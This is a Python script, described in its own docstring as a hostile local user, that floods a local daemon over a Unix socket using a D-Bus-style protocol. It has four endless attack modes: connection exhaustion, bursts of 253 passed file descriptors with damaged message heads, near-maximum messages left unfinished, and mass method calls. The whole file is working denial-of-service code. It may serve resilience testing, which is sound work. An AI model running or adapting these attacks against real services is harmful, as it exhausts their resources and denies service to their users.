"""One hostile local user: attacker.py ATTACK SOCKET. Goes on until it is ended; what the daemon closes, it opens anew."""

import array
import os
import socket
import struct
import sys
import time

SOCKET = sys.argv[2]
STATE = "synchronousGetCurrentState"
LARGEST = 2 << 20  # bytes of a message that the daemon takes


def connect():
    link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    link.setblocking(False)
    link.connect(SOCKET)
    return link


def authenticated():
    link = connect()
    user = str(os.getuid()).encode().hex()
    link.send(f"\0AUTH EXTERNAL {user}\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n".encode())
    return link


def message(body_size=0):
    """The head of a call that wants no answer."""
    fields = b""
    for code, kind, text in ((1, "o", "/com/tarnwick/quorveld"), (2, "s", "com.tarnwick.quorveld.QVDaemonProtocol"),
                             (3, "s", STATE)):
        fields += b"\0" * (-len(fields) % 8) + struct.pack("<B", code) + b"\1" + kind.encode() + b"\0"
        fields += struct.pack("<I", len(text)) + text.encode() + b"\0"
    return (struct.pack("<cBBBIII", b"l", 1, 1, 1, body_size, 1, len(fields)) + fields + b"\0" * (-len(fields) % 8))


def each_of(links, count, opened, act):
    """Keeps so many connections, and has something done with each."""
    while len(links) < count:
        try:
            links.append(opened())
        except OSError:
            time.sleep(0.001)
            break
    for link in list(links):
        try:
            act(link)
        except BlockingIOError:
            pass
        except OSError:
            links.remove(link)
            link.close()


def hold(link):
    link.send(b"\0")


def bomb(link):
    """253 descriptors with the beginning of a message, and with one whose head is damaged."""
    descriptors = array.array("i", [0] * 253)
    for head in (message()[:8], b"x" * 16):
        link.sendmsg([head], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])


def begin(link):
    """A message of the largest size, but for its end."""
    head = message(LARGEST - 512)
    link.send(head + b"\0" * (LARGEST - 512 - len(head)))


CALLS = message() * 200
ATTACKS = {
    "connections": (2000, connect, hold),
    "descriptors": (78, authenticated, bomb),
    "unfinished messages": (40, authenticated, begin),
    "calls": (8, authenticated, lambda link: link.send(CALLS)),
}

count, opened, act = ATTACKS[sys.argv[1]]
links = []
while True:
    each_of(links, count, opened, act)
